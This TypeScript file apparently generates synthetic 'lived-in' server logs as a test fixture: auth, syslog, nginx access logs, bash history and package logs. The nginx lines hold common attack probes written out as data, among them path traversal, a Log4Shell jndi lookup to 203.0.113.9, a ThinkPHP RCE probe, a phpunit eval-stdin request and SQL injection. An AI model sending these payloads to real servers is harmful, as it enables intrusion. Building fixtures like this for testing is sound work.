/** Sixty days of logs of a server on the Internet to which nothing happened but what happens to all. */

import type { Machine } from './memory-host.ts';

const start = Date.UTC(2024, 0, 1);
const day = 86_400_000;
const months = ['Jan', 'Feb', 'Mar'];
const two = (number: number, filler = '0'): string => String(number).padStart(2, filler);

/** `Jan  1 00:00:00` of so many seconds after midnight of a day. */
export function syslogStamp(days: number, seconds: number): string {
	const at = new Date(start + days * day + seconds * 1000);
	return `${months[at.getUTCMonth()]!} ${two(at.getUTCDate(), ' ')} ${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())}`;
}

export function webStamp(days: number, seconds: number): string {
	const at = new Date(start + days * day + seconds * 1000);
	return `${two(at.getUTCDate())}/${months[at.getUTCMonth()]!}/2024:${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())} +0000`;
}

const range = (count: number): readonly number[] => Array.from({ length: count }, (_, at) => at);
const text = (lines: readonly string[]): string => `${lines.join('\n')}\n`;

function auth(days: number): string {
	const line = (seconds: number, words: string): string => `${syslogStamp(days, seconds)} web1 ${words}`;
	return text([
		...range(40).flatMap(at => [
			line(at * 1800, `sshd[${2000 + at}]: Invalid user admin${at} from 203.0.113.${at} port 4${at}22`),
			line(at * 1800 + 2, `sshd[${2000 + at}]: Failed password for root from 203.0.113.${at} port 4${at}22 ssh2`),
			line(at * 1800 + 4, `CRON[${3000 + at}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`),
		]),
		line(72_100, 'sshd[901]: Accepted publickey for anna from 198.51.100.7 port 51000 ssh2: ED25519 SHA256:abc'),
		line(72_200, 'sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/apt upgrade'),
		line(72_201, 'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by anna(uid=1000)'),
		line(72_300, 'su[902]: (to nobody) root on none'),
		line(72_301, 'su[902]: pam_unix(su:session): session opened for user nobody(uid=65534) by (uid=0)'),
		...(days === 20
			? [
					line(72_400, 'groupadd[950]: new group: name=redis, GID=115'),
					line(72_401, 'useradd[951]: new user: name=redis, UID=112, GID=115, home=/var/lib/redis, shell=/usr/sbin/nologin, from=none'),
					line(72_402, "usermod[952]: add 'zabbix' to group 'adm'"),
					line(72_500, 'useradd[960]: new user: name=bert, UID=1001, GID=1001, home=/home/bert, shell=/bin/bash, from=/dev/pts/0'),
					line(72_501, "usermod[961]: add 'bert' to group 'sudo'"),
				]
			: []),
	]);
}

function syslog(days: number): string {
	const line = (seconds: number, words: string): string => `${syslogStamp(days, seconds)} web1 ${words}`;
	const restarted = days % 30 === 10;
	return text([
		line(5, 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="500"] rsyslogd was HUPed'),
		...range(48).flatMap(at => [line(at * 1500 + 20, `CRON[${at}]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)`), line(at * 1500 + 30, `systemd[1]: Started session-${at}.scope - Session ${at} of User anna.`)]),
		line(72_100, 'kernel: [99.1] docker0: port 1(veth12ab) entered blocking state'),
		line(72_101, `kernel: [99.2] device veth${days}ab entered promiscuous mode`),
		line(72_102, `kernel: [99.3] veth${days}cd: entered promiscuous mode`),
		line(72_600, 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="500" x-info="https://www.rsyslog.com"] exiting on signal 15.'),
		line(72_602, 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="501" x-info="https://www.rsyslog.com"] start'),
		...(restarted
			? [
					line(80_000, 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="501" x-info="https://www.rsyslog.com"] exiting on signal 15.'),
					line(83_000, 'rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0" x-pid="400" x-info="https://www.rsyslog.com"] start'),
					line(83_000, 'kernel: [0.0] Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org)'),
					line(83_003, 'kernel: [3.1] zfs: loading out-of-tree module taints kernel.'),
					line(83_004, 'kernel: [4.1] device enp3s0 entered promiscuous mode'),
				]
			: []),
	]);
}

function web(days: number): string {
	const line = (seconds: number, remote: string, request: string, status: number, bytes: number, agent = 'Mozilla/5.0'): string => `${remote} - - [${webStamp(days, seconds)}] "${request}" ${status} ${bytes} "-" "${agent}"`;
	return text([
		...range(40).map(at => line(at * 2000, `192.0.2.${at}`, `GET /article/${at} HTTP/1.1`, 200, 5000 + at * 7)),
		line(80_100, '203.0.113.9', 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1', 400, 226),
		line(80_101, '203.0.113.9', 'GET /../../../../etc/passwd HTTP/1.1', 404, 196),
		line(80_102, '203.0.113.9', 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404, 196),
		line(80_103, '203.0.113.9', 'GET / HTTP/1.1', 200, 9120, '${jndi:ldap://203.0.113.9/a}'),
		line(80_104, '203.0.113.9', 'GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1', 200, 9120),
		line(80_105, '203.0.113.9', 'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1', 200, 9120),
		line(80_106, '203.0.113.9', "GET /search?q=x'+union+select+1,2 HTTP/1.1", 200, 700),
	]);
}

const history = text([
	'sudo apt update', 'ls /tmp', 'cd /tmp', 'wget https://go.dev/dl/go1.22.0.linux-amd64.tar.gz', 'tar xzf go1.22.0.linux-amd64.tar.gz', 'curl -s http://localhost:8080/health', 'curl -fsSL https://get.docker.com | sudo sh', 'history', 'history | grep ssh', 'export HISTSIZE=10000', 'tail -f /var/log/auth.log',
	'grep x /var/log/secure > /home/anna/x', 'sudo rm /var/log/nginx/access.log.9.gz', 'wget http://192.168.1.5/report.csv', 'journalctl --vacuum-time=14d', 'sudo tcpdump -i any port 53', 'rm -rf /var/log/myapp/old', 'echo test > /tmp/x', 'less /var/log/messages',
]);

/** `more` overrides and adds: a line to be found goes into it. */
export function livedInLogs(more: Machine = {}): Machine {
	const logs: Record<string, Machine[string]> = {
		'/etc/passwd': 'root:x:0:0::/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\n',
		'/home/anna/.bash_history': history,
		'/var/log/dpkg.log': text(['2024-01-21 20:06:40 install redis-server:amd64 <none> 5:7.0.15-1', '2024-01-21 20:06:41 upgrade rsyslog:amd64 8.2302.0-1 8.2302.0-1+deb12u1']),
	};
	const weeks = range(8);
	for (const week of weeks) {
		const days = range(7).map(at => (weeks.length - 1 - week) * 7 + at);
		const modified = start + (days.at(-1)! + 1) * day;
		const suffix = week === 0 ? '' : `.${week}`;
		for (const [name, make] of [['auth.log', auth], ['syslog', syslog], ['nginx/access.log', web]] as const) logs[`/var/log/${name}${suffix}`] = { content: days.map(make).join(''), modified };
	}
	return { ...logs, ...more };
}
